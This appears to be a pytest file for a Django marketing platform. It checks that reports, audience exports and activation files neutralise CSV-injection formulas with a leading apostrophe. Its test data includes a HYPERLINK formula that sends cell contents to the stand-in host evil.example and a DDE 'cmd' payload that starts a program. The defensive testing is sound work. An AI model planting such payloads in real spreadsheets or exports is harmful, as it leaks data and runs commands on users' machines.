"""No CSV Cible writes carries a live spreadsheet formula (OWASP's CSV-injection rule): a cell that
begins with =, +, -, @, a tab or a carriage return is written with a leading apostrophe, unless it
is a plain number. Each file is read back as a spreadsheet reads it (the csv module's cells)."""

import csv
import io
import json
from datetime import timedelta
from decimal import Decimal

import pytest
from django.urls import reverse
from django.utils import timezone

from campaigns.activation import campaign_deliveries, campaign_handoff
from campaigns.models import Campaign, Connector, Handoff
from core.csvfiles import safe_cell
from core.time import local_day
from reporting.services import figures_ingest, rollup_run
from segments.services import segment_create
from tests.factories import make_campaign, make_consent, make_profile, make_segment

LINK = '=HYPERLINK("http://evil.example/"&A1,"Click")'
HOSTILE = [LINK, "+SUM(1,2)", "-2+3+cmd|' /C calc'!A0", "@SUM(A1:A9)", "\t=1+1", "\r=1+1"]
PAST = timezone.now() - timedelta(days=5)


def live_formulas(text: str) -> list[str]:
    """The cells a spreadsheet would run: they begin with a formula character and are not numbers."""
    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
    return [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r") and safe_cell(cell) != cell]


@pytest.mark.parametrize("value", HOSTILE)
def test_a_formula_is_written_as_text(value):
    assert safe_cell(value) == "'" + value


@pytest.mark.parametrize("value", ["-12.50", "+33612345678", "-3", "1e5", "Lyon", "", "a=b", "'=quoted already"])
def test_numbers_and_plain_texts_are_left_alone(value):
    assert safe_cell(value) == value


def test_a_report_as_csv_names_a_hostile_campaign_as_text(marketer, workspace):
    campaign = make_campaign(workspace=workspace, name=LINK, segment=make_segment(workspace=workspace))
    figures_ingest(
        rows=[
            {
                "campaign": campaign,
                "target": campaign.targets.get(),
                "channel": "email",
                "day": local_day(workspace, timezone.now()),
                "source": "esp",
                "impressions": 10,
                "clicks": 1,
                "conversions": 0,
                "spend": Decimal("-0.00"),
                "revenue": Decimal("0"),
            }
        ]
    )
    rollup_run(workspace=workspace)
    r = marketer.get(reverse("report-list", kwargs={"workspace": "maison"}), {"group_by": "campaign", "format": "csv"})
    assert r.status_code == 200
    text = r.content.decode()
    assert live_formulas(text) == []
    rows = list(csv.DictReader(io.StringIO(text)))
    assert rows[0]["campaign_name"] == "'" + LINK
    # the CSV operation of the schema writes the same file
    same = marketer.get(reverse("report-csv", kwargs={"workspace": "maison"}), {"group_by": "campaign"})
    assert same.status_code == 200 and same["Content-Type"].startswith("text/csv")
    assert same.content.decode() == text
    # the JSON report is unchanged
    json_rows = marketer.get(reverse("report-list", kwargs={"workspace": "maison"}), {"group_by": "campaign"}).json()
    assert json_rows["rows"][0]["campaign_name"] == LINK


def test_an_audience_export_with_plain_identifiers_writes_names_as_text(
    client_for, workspace, eager_tasks, django_capture_on_commit_callbacks, settings, tmp_path
):
    settings.MEDIA_ROOT = str(tmp_path)
    for index, name in enumerate(HOSTILE):
        person = make_profile(
            workspace=workspace,
            external_id=f"X{index}",
            city="Lyon",
            email=f"x{index}@example.com",
            phone="+33 6 12 34 56 78",
            first_name=name,
            last_name="@evil",
        )
        make_consent(profile=person, purpose="direct_marketing", channel="email", recorded_at=PAST)
    segment = segment_create(
        workspace=workspace, name="Lyon", definition={"field": "city", "op": "eq", "value": "Lyon"}
    )
    from audiences.services import audience_compute

    audience_compute(segment_id=segment.pk)
    manager = client_for("manager")
    with django_capture_on_commit_callbacks(execute=True):
        r = manager.post(
            reverse("segment-export", kwargs={"workspace": "maison", "pk": segment.pk}),
            {"purpose": "direct_marketing", "channel": "email", "identifiers": "plain", "format": "csv"},
            format="json",
        )
    assert r.status_code == 202, r.content
    body = manager.get(reverse("export-download", kwargs={"workspace": "maison", "pk": r.json()["id"]}))
    text = b"".join(body.streaming_content).decode()
    assert live_formulas(text) == []
    rows = list(csv.DictReader(io.StringIO(text)))
    assert sorted(row["first_name"] for row in rows) == sorted("'" + name for name in HOSTILE)
    assert {row["phone"] for row in rows} == {"+33612345678"}  # a phone number in E.164 is a number, kept
    assert {row["last_name"] for row in rows} == {"'@evil"}
    with django_capture_on_commit_callbacks(execute=True):
        r = manager.post(
            reverse("segment-export", kwargs={"workspace": "maison", "pk": segment.pk}),
            {"purpose": "direct_marketing", "channel": "email", "identifiers": "plain", "format": "json"},
            format="json",
        )
    body = manager.get(reverse("export-download", kwargs={"workspace": "maison", "pk": r.json()["id"]}))
    lines = [json.loads(line) for line in b"".join(body.streaming_content).decode().splitlines()]
    assert sorted(line["first_name"] for line in lines) == sorted(HOSTILE)  # JSON lines unchanged


def test_an_activation_file_writes_hostile_names_and_messages_as_text(workspace, settings, tmp_path):
    settings.MEDIA_ROOT = str(tmp_path)
    Connector.objects.create(workspace=workspace, channel="email", kind="file")
    person = make_profile(
        workspace=workspace, external_id="ANA", email="ana@example.com", first_name=LINK, city="@Lyon", country="FR"
    )
    make_consent(profile=person, purpose="direct_marketing", channel="email", recorded_at=PAST)
    campaign = make_campaign(
        workspace=workspace,
        segment=make_segment(workspace=workspace),
        targets=[
            {
                "segment": make_segment(workspace=workspace),
                "subject_template": "-{{first_name}}",
                "body_template": "Hello",
                "discount_code": "=1+1",
                "discount_percent": "10",
            }
        ],
    )
    Campaign.objects.filter(pk=campaign.pk).update(status=Campaign.Status.ACTIVE)
    campaign_deliveries(campaign_id=campaign.pk)
    assert campaign_handoff(campaign_id=campaign.pk) == {"email": 1}
    text = Handoff.objects.get().file.open("rb").read().decode()
    assert live_formulas(text) == []
    [row] = list(csv.DictReader(io.StringIO(text)))
    assert (row["first_name"], row["city"], row["discount_code"]) == ("'" + LINK, "'@Lyon", "'=1+1")
    assert row["subject"] == "'-" + LINK
    assert row["discount_percent"] == "10.00"
